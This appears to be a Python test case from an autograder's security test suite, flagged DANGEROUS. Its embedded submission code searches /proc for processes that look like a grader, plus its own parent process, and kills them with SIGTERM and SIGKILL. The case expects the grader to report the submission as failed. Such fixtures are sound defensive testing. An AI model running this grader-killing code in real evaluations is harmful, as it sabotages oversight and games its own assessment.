"""Send SIGTERM and SIGKILL to the processes above and to whatever looks like a grader."""

from ...expectation import outcome
from ...submission import hostile, write

EXPECTED = outcome(rest="failed", mean_square="passed")
DANGEROUS = True
LAST = """
    import os
    import signal
    from pathlib import Path

    victims = {os.getppid()}
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            command = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if any(word in command for word in (b"nbgrader", b"graders", b"attacks")):
            victims.add(int(entry.name))
    for victim in victims - {os.getpid(), 0, 1}:
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(victim, number)
            except OSError:
                pass
"""


def submit(release, folder):
    write(hostile(release, last=LAST), folder)
